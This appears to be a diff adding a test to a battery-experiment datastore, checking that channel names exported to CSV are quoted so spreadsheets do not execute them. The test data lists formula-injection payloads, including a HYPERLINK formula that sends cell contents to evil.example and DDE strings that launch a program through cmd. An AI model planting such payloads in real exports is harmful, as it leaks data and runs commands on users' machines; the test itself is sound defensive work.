@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import math
 from pathlib import Path
@@ -17,7 +18,7 @@ import datastore.imports
 from datastore.export import iter_experiment_csv, write_experiment_csv
 from datastore.imports import ExperimentImportError, import_experiment, import_file
 from datastore.models import Battery, Channel, Experiment, ExtraValue, Measurement
-from domain.csvformat import ParsedExperiment, parse_csv
+from domain.csvformat import ParsedExperiment, extra_header, parse_csv
 from domain.status import ExperimentStatus
 
 START = 1_700_000_000.0
@@ -291,6 +292,44 @@ def test_export_then_import_file_in_chunks_gives_the_same_samples(
     )
     assert_same_extras(again, extras)
     assert export_text(engine, copy_id) == exported
+
+
+HOSTILE_CHANNELS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "'=already quoted",
+)
+
+
+def test_hostile_channel_names_are_formula_safe_in_the_export_and_come_back_on_import(
+    engine: Engine,
+) -> None:
+    experiment_id, stored, extras = add_experiment(engine, 40, channels=len(HOSTILE_CHANNELS))
+    with Session(engine) as session:
+        channels = session.scalars(
+            select(Channel).where(Channel.experiment_id == experiment_id).order_by(Channel.id)
+        ).all()
+        renamed = {}
+        for channel, name in zip(channels, HOSTILE_CHANNELS, strict=True):
+            renamed[name] = extras[channel.name]
+            channel.name, channel.unit = name, ""
+        session.commit()
+    exported = export_text(engine, experiment_id)
+    header = next(csv.reader(io.StringIO(exported)))
+    for cell in header:
+        # A spreadsheet runs a cell that starts with one of these: every one is quoted.
+        assert not cell.startswith(("=", "+", "-", "@")), cell
+    assert header[-len(HOSTILE_CHANNELS) :] == [
+        "'" + extra_header(name, "") for name in HOSTILE_CHANNELS
+    ]
+
+    parsed = parse_csv(exported.encode())
+    assert_same_extras(parsed, renamed)
+    copy_id = import_experiment(engine, parsed, name="Copy", battery_id=add_battery_again(engine))
+    assert export_text(engine, copy_id) == exported
+    assert (stored["voltage"].to_numpy() == parsed.samples["voltage"].to_numpy()).all()
 
 
 def add_battery_again(engine: Engine) -> int:
